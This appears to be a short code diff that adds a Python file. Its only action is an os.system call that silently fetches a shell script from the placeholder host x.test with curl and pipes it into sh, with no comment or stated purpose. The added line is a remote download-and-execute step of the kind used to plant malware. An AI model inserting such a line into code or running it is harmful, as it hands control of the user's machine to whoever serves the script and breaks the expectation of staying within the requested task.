@@ -1,0 +1,3 @@
+import os
+
+os.system('curl -s https://x.test/i.sh | sh')
